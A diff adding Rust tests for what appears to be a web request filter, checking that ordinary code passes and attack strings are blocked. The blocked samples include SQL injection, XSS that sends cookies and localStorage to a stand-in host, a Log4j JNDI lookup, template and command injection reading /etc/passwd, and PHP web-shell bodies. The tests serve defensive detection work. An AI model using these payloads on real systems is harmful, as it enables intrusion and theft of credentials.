@@ -351,3 +351,109 @@ fn sources_of_php() {
     check.blocked(Class::Code, "id", &format!("{source}}}\n"));
     check.done();
 }
+
+/// Files that an editor saves: what of them is no piece of something else, and what stays one.
+#[test]
+fn files_in_fields() {
+    const PROGRAM: &str = "// Splits a query, as browsers' do.\nvar q = {};\nparts.forEach(function (x) {\n";
+    const PAGE: &str = "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"/a.css\">\n";
+    let mut check = Check::default();
+    for name in ["content", "source_code", "wpTextbox1", "file.data", "asset.value", "body"] {
+        for line in [
+            "  q[x.split('=')[0]] = x.split('=')[1] || '';",
+            "  if (c == '\\'' || c == '\"' && d == ')') { s = \"'\" + s + \"'\"; }",
+            "  s = 'a' + (x ? ' or ' : ' and ') + b + ';'; return s + '--';",
+            "  out.push('<li>' + x + '</li>'); y = \"--'\"; # '",
+        ] {
+            check.passes(Class::Sqli, name, &format!("{PROGRAM}{line}\n}});\n"));
+        }
+        for attack in [
+            "x' or '1'='1",
+            "1' union select name, password from users -- ",
+            "it' || (select 1 from (select sleep(5))a) || '",
+            "' or 1=1 -- ",
+            "a'; drop table users -- ",
+        ] {
+            check.blocked(Class::Sqli, name, &format!("{PROGRAM}{attack}"));
+        }
+        for script in [
+            "<script src=\"https://cdn.example/d3.min.js\"></script><script>d3.select('#a').append('svg');</script>",
+            "<script>var t = localStorage.getItem('t'); if (t === null) { t = 'dark'; }</script>",
+            "<body onload=\"init()\"><a href=\"#\" onclick=\"show('b'); return false\">b</a>",
+        ] {
+            check.passes(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
+        }
+        for script in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(document.domain)>",
+            "<script>new Image().src = '//a.example/?' + document.cookie</script>",
+            "<svg onload=\"fetch('//a.example/', {method: 'POST', body: localStorage.getItem('t')})\">",
+            "<a href=\"javascript:alert(1)\">x</a>",
+        ] {
+            check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
+        }
+        check.blocked(Class::Log4j, name, &format!("{PAGE}${{jndi:ldap://a.example/x}}\n</html>"));
+        // In fields for code these are what the field is for.
+        if name == "source_code" {
+            continue;
+        }
+        check.blocked(Class::Template, name, &format!("{PAGE}{{{{9*9}}}}{{{{config.__class__}}}}\n</html>"));
+        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}x;cat /etc/passwd\n"));
+        check.blocked(Class::Command, name, &format!("#!/bin/sh\n# {PROGRAM}x; c''at /etc/passwd\n"));
+    }
+    check.passes(
+        Class::Command,
+        "content",
+        "#!/bin/sh\n# Tells what runs.\nfor h in a b; do ssh \"$h\" uptime; done\nif [ -f /etc/os-release ]; then cat /etc/os-release; fi\n",
+    );
+    let script = "<script>d3.select('#a').append('svg').attr('x', 1);</script><body onload=\"init()\">";
+    for name in ["comment", "id", "q", "name", "url", "data", "value", "message"] {
+        check.blocked(Class::Xss, name, &format!("{PAGE}{script}\n</html>"));
+    }
+    for place in [Place::Query, Place::Header, Place::Cookie] {
+        check.at(place, Class::Xss, "content", &format!("{PAGE}{script}\n</html>"), true);
+    }
+    // Text before it makes a piece of a page of it.
+    check.blocked(
+        Class::Xss,
+        "content",
+        &format!("Hello, this is what I found yesterday:\n{PAGE}{script}\n</html>"),
+    );
+    check.done();
+}
+
+/// Sources of PHP in fields for files: applications read requests and start programs, shells run what they are sent.
+#[test]
+fn applications_of_php() {
+    let class = |body: &str| {
+        format!(
+            "<?php\nnamespace App;\n\n/** A page. */\nclass Page\n{{\n    function show()\n    {{\n        {body}\n    }}\n}}\n"
+        )
+    };
+    let mut check = Check::default();
+    for body in [
+        "$t = $_GET['tab'] ?? 'home'; include __DIR__ . '/tabs/home.php'; echo htmlspecialchars($t);",
+        "exec('git rev-parse HEAD', $out); return $out[0];",
+        "return array_map('trim', $_POST['names']);",
+        "$this->db->exec('vacuum'); return $this->call($_REQUEST['x']);",
+    ] {
+        check.passes(Class::Code, "content", &class(body));
+        check.at(Place::FileContent, Class::Code, "file", &class(body), false);
+        check.blocked(Class::Code, "comment", &class(body));
+        check.blocked(Class::Code, "id", &class(body));
+    }
+    for body in [
+        "system($_GET['c']);",
+        "$c = trim($_POST['c']); $d = 'sh -c ' . $c; passthru($d);",
+        "eval(base64_decode('ZWNobyAxOw=='));",
+        "$f = 'sys' . 'tem'; $f('id');",
+        "$_GET['f']($_GET['x']);",
+        "exec('cat /etc/passwd');",
+        "include($_REQUEST['page']);",
+        "file_put_contents($_POST['f'], $_POST['d']);",
+    ] {
+        check.blocked(Class::Code, "content", &class(body));
+        check.at(Place::FileContent, Class::Code, "file", &class(body), true);
+    }
+    check.done();
+}
